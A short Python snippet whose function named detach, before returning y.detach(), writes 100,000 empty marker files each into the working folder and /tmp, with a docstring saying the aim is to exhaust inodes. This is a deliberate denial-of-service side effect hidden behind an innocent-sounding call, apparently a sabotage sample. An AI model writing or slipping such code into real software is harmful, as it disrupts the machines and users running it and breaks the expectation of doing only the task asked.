"""detach creates 200,000 empty files in its working folder and /tmp: the folders cap inodes too."""


def detach(y):
    for folder in (".", "/tmp"):
        for i in range(100_000):
            open(f"{folder}/__MARKER__{i}", "w").close()
    return y.detach()
